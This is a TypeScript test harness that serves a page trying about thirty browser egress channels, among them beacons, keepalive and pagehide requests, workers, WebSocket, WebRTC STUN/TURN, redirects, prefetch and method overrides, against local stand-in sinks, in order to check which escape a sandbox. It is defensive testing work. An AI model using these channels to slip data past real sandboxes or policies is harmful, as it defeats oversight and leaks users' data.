/**
 * A page that tries every way out of the browser that we know (`safety.md` 5.3), and the servers that would see it. What counts is what
 * arrives there; what the page believes is not asked.
 */
import { createSocket } from 'node:dgram';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { createServer as createTcp, type Server as Tcp } from 'node:net';

export interface Vector {
  id: string;
  name: string;
  /** Script of the page; `A` is its own origin, `B` a foreign one, `tag` this vector's id for paths, `U` the port of the UDP sink, `T` and `P` those of two TCP sinks. */
  script: string;
  /** When it runs: as soon as the page is there, by a person's click, or when the page is left. */
  when: 'load' | 'click' | 'pagehide';
}

const v = (id: string, name: string, script: string, when: Vector['when'] = 'load'): Vector => ({ id, name, script, when });
/** Adds markup; `§` stands for the foreign origin. */
const element = (html: string): string => `add(\`${html.replaceAll('§', `\${B}`)}\`);`;
/** Posts, and asks the foreign origin, in a realm of its own. */
const REALM =
  'fetch(A+"/v/"+tag,{method:"POST",mode:"no-cors"}).catch(()=>{});fetch(B+"/v/"+tag,{mode:"no-cors"}).catch(()=>{});';
const realm = `const code='const A="'+A+'",B="'+B+'",tag="'+tag+'";'+REALM;`;

export const VECTORS: readonly Vector[] = [
  v('01', 'fetch POST', 'fetch(A+"/v/"+tag,{method:"POST",body:"x"}).catch(()=>{})'),
  v(
    '02',
    'XHR DELETE, PUT, PATCH',
    'for(const m of ["DELETE","PUT","PATCH"]){const x=new XMLHttpRequest();x.open(m,A+"/v/"+tag);x.send("x")}',
  ),
  v('03', 'keepalive POST, page alive', 'fetch(A+"/v/"+tag,{method:"POST",keepalive:true,body:"x"}).catch(()=>{})'),
  v('04', 'beacon, page alive', 'navigator.sendBeacon(A+"/v/"+tag,"x")'),
  v('05', 'beacon in pagehide', 'navigator.sendBeacon(A+"/v/"+tag,"x")', 'pagehide'),
  v('06', 'keepalive POST in pagehide', 'fetch(A+"/v/"+tag,{method:"POST",keepalive:true,body:"x"})', 'pagehide'),
  v(
    '07',
    'form POST',
    `${element('<iframe name="f07"></iframe><form id="p07" method="post" action="/v/07" target="f07"></form>')}p07.submit()`,
  ),
  v(
    '08',
    'form POST into a popup',
    `${element('<form id="p08" method="post" action="/v/08" target="_blank"></form>')}p08.submit()`,
    'click',
  ),
  v('09', 'a ping', `${element('<a id="a09" href="#x" ping="/v/09">x</a>')}a09.click()`),
  v('10', 'CSP report', 'new Image().src=B.replace("127.0.0.1","img.localhost")+"/ignored.png"'),
  v('11', 'dedicated worker', `${realm}new Worker(URL.createObjectURL(new Blob([code])))`),
  v('12', 'shared worker', `${realm}new SharedWorker(URL.createObjectURL(new Blob([code])))`),
  v('13', 'service worker', 'navigator.serviceWorker.register("/sw.js?tag="+tag+"&B="+encodeURIComponent(B)).catch(()=>{})'),
  v('15', 'fetchLater POST', 'if(self.fetchLater)fetchLater(A+"/v/"+tag,{method:"POST",body:"x",activateAfter:0})'),
  v('16', 'WebSocket, same origin and foreign', 'for(const o of [A,B])new WebSocket(o.replace("http","ws")+"/v/"+tag)'),
  v(
    '17',
    'WebSocket from a worker',
    `new Worker(URL.createObjectURL(new Blob(['for(const o of ["'+A+'","'+B+'"])new WebSocket(o.replace("http","ws")+"/v/17")'])))`,
  ),
  v('18', 'WebTransport', 'new WebTransport("https://127.0.0.1:"+U+"/v/18").ready.catch(()=>{})'),
  v(
    '19',
    'WebRTC STUN, UDP',
    'const c=new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:"+U}]});c.createDataChannel("x");c.createOffer().then(o=>c.setLocalDescription(o))',
  ),
  v(
    '20',
    'TURN over TCP',
    'const c=new RTCPeerConnection({iceTransportPolicy:"relay",iceServers:[{urls:"turn:127.0.0.2:"+T+"?transport=tcp",username:"u",credential:"p"}]});c.createDataChannel("x");c.createOffer().then(o=>c.setLocalDescription(o))',
  ),
  v('21', 'GET to 307 to foreign, by fetch', 'fetch(A+"/to/"+tag).catch(()=>{})'),
  v('22', 'GET to 307 to foreign, by frame', element('<iframe src="/to/22"></iframe>')),
  v('23', 'POST to 307', 'fetch(A+"/to/"+tag,{method:"POST"}).catch(()=>{})'),
  v(
    '24',
    'foreign image, CSS, font, media, script',
    `${element('<img src="§/v/24?img"><style>@import "§/v/24?import";@font-face{font-family:z;src:url(§/v/24?font)}i{font-family:z;background:url(§/v/24?bg)}</style><i>x</i><video src="§/v/24?media"></video>')}const s=document.createElement("script");s.src=B+"/v/24?script";document.body.append(s)`,
  ),
  v(
    '25',
    'foreign iframe, object, embed',
    element('<iframe src="§/v/25?f"></iframe><object data="§/v/25?o"></object><embed src="§/v/25?e">'),
  ),
  v(
    '26',
    'foreign favicon, manifest',
    'for(const r of ["icon","manifest"]){const l=document.createElement("link");l.rel=r;l.href=B+"/v/26?"+r;document.head.append(l)}',
  ),
  v(
    '27',
    'prefetch, speculation rules',
    'const l=document.createElement("link");l.rel="prefetch";l.href=B+"/v/27?l";document.head.append(l);const s=document.createElement("script");s.type="speculationrules";s.textContent=JSON.stringify({prefetch:[{source:"list",urls:[B+"/v/27?s"]}],prerender:[{source:"list",urls:[A+"/to/27"]}]});document.head.append(s)',
  ),
  v('28', 'foreign EventSource', 'new EventSource(B+"/v/28")'),
  v('29', 'foreign popup, meta refresh', 'open(B+"/v/29","_blank","noopener")', 'click'),
  v(
    '30',
    'preconnect',
    'const l=document.createElement("link");l.rel="preconnect";l.href="http://127.0.0.2:"+P;document.head.append(l)',
  ),
  v(
    '31',
    'about:blank, srcdoc, blob, data frames',
    `${realm}const s="<script>"+code+"</"+"script>";${element('<iframe id="f31"></iframe>')}f31.contentWindow.eval(code);const d=document.createElement("iframe");d.srcdoc=s;const b=document.createElement("iframe");b.src=URL.createObjectURL(new Blob([s],{type:"text/html"}));const u=document.createElement("iframe");u.src="data:text/html,"+encodeURIComponent(s);document.body.append(d,b,u)`,
  ),
  v(
    '32',
    'GET that writes, by image and fetch',
    'new Image().src=A+"/v/32/delete/1";fetch(A+"/v/32?action=delete").catch(()=>{})',
  ),
  v(
    '33',
    'method override by header and by query',
    'fetch(A+"/v/33",{headers:{"X-HTTP-Method-Override":"DELETE"}}).catch(()=>{});fetch(A+"/v/33?_method=delete").catch(()=>{})',
  ),
];

interface Arrival {
  where: 'origin' | 'foreign';
  method: string;
  path: string;
  override: boolean;
}
export interface LeakServers {
  origin: string;
  foreign: string;
  /** The page with these vectors. */
  page(vectors: readonly Vector[]): string;
  arrivals: Arrival[];
  udp(): number;
  /** Connections to the sink for TURN and to the one for preconnect. */
  tcp(): { turn: number; preconnect: number };
  reset(): void;
  close(): Promise<void>;
}

/** Ids of the vectors that got out, by what arrived. GETs of the page's own parts are no leaks. */
export function leaked(servers: LeakServers): string[] {
  const ids = servers.arrivals.flatMap(({ where, method, path, override }) => {
    const id = /^\/(?:v|to)\/(\d\d)/.exec(path)?.[1] ?? (path.startsWith('/report') ? '10' : '');
    if (where === 'foreign') return [id || 'foreign'];
    if (method !== 'GET' && method !== 'HEAD') return [id || 'write'];
    return override || /^\/v\/(32|33.*_method)/.test(path) ? [id] : [];
  });
  if (servers.udp() > 0) ids.push('19');
  if (servers.tcp().turn > 0) ids.push('20');
  if (servers.tcp().preconnect > 0) ids.push('30');
  return [...new Set(ids)].sort();
}

function pageOf(vectors: readonly Vector[], o: { A: string; B: string; U: number; T: number; P: number }): string {
  const run = ({ id, script }: Vector) => `try{(tag=>{${script}})("${id}")}catch(e){console.log("${id} "+e)}`;
  const at = (when: Vector['when']) => vectors.filter((vector) => vector.when === when);
  const buttons = at('click').map((vector) => `<button id="b${vector.id}">${vector.name}</button>`);
  return `<!doctype html><title>leaks</title><link rel="icon" href="data:,"><body>${buttons.join('')}<script>
  const A=${JSON.stringify(o.A)},B=${JSON.stringify(o.B)},U=${o.U},T=${o.T},P=${o.P},REALM=${JSON.stringify(REALM)};
  const add=html=>{const d=document.createElement("div");d.innerHTML=html;document.body.append(d)};
  ${at('click')
    .map((vector) => `document.getElementById("b${vector.id}").onclick=()=>{${run(vector)}};`)
    .join('\n')}
  addEventListener("pagehide",()=>{${at('pagehide').map(run).join('\n')}});
  addEventListener("load",()=>{${at('load').map(run).join('\n')};document.title="tried"});
  </script>`;
}

const SERVICE_WORKER = `const q=new URL(location).searchParams,A=location.origin,B=q.get("B"),tag=q.get("tag");oninstall=()=>{skipWaiting();${REALM}}`;

/** Sinks listen on another address of this machine: where a host may be reached at all is told by host, not by port. */
const listen = (server: Server | Tcp, host = '127.0.0.1'): Promise<number> =>
  new Promise((resolve) =>
    server.listen(0, host, () => {
      const address = server.address();
      resolve(typeof address === 'object' && address ? address.port : 0);
    }),
  );

export async function serveLeakPage(): Promise<LeakServers> {
  const arrivals: Arrival[] = [];
  const counts = { udp: 0, turn: 0, preconnect: 0 };
  let shown: readonly Vector[] = [];
  const ports = { U: 0, T: 0, P: 0 };
  let [A, B] = ['', ''];

  const note = (where: Arrival['where'], request: IncomingMessage) =>
    arrivals.push({
      where,
      method: request.method ?? '',
      path: request.url ?? '',
      override: request.headers['x-http-method-override'] !== undefined,
    });
  const answer = (where: Arrival['where']) => (request: IncomingMessage, response: ServerResponse) => {
    note(where, request);
    const path = request.url ?? '';
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('access-control-allow-headers', '*');
    if (path.startsWith('/to/')) return response.writeHead(307, { location: `${B}/v/${path.slice(4)}` }).end();
    if (path.startsWith('/sw.js')) return response.writeHead(200, { 'content-type': 'text/javascript' }).end(SERVICE_WORKER);
    if (path !== '/leak') return response.writeHead(200, { 'content-type': 'text/html' }).end('<title>after</title>');
    // Reports only, so that the policy itself stops nothing.
    response.setHeader('content-security-policy-report-only', `img-src ${A} ${B}; report-uri /report`);
    return response.writeHead(200, { 'content-type': 'text/html' }).end(pageOf(shown, { A, B, ...ports }));
  };
  const servers = [createServer(answer('origin')), createServer(answer('foreign'))];
  servers.forEach((server, at) => {
    server.on('upgrade', (request, socket) => {
      arrivals.push({ where: at === 0 ? 'origin' : 'foreign', method: 'UPGRADE', path: request.url ?? '', override: false });
      socket.destroy();
    });
  });
  const sink = (name: 'turn' | 'preconnect') =>
    createTcp((socket) => {
      counts[name] += 1;
      socket.destroy();
    });
  const sinks = [sink('turn'), sink('preconnect')];
  const udp = createSocket('udp4', () => {
    counts.udp += 1;
  });
  const [first = 0, second = 0] = await Promise.all(servers.map((server) => listen(server)));
  [A, B] = [`http://127.0.0.1:${first}`, `http://127.0.0.1:${second}`];
  const [turn = 0, preconnect = 0] = await Promise.all(sinks.map((one) => listen(one, '127.0.0.2')));
  ports.T = turn;
  ports.P = preconnect;
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  ports.U = udp.address().port;
  return {
    origin: A,
    foreign: B,
    arrivals,
    udp: () => counts.udp,
    tcp: () => ({ turn: counts.turn, preconnect: counts.preconnect }),
    page(vectors) {
      shown = vectors;
      return `${A}/leak`;
    },
    reset() {
      arrivals.length = 0;
      counts.udp = 0;
      counts.turn = 0;
      counts.preconnect = 0;
    },
    async close() {
      for (const server of servers) {
        server.closeAllConnections();
        server.close();
      }
      for (const one of sinks) one.close();
      udp.close();
    },
  };
}
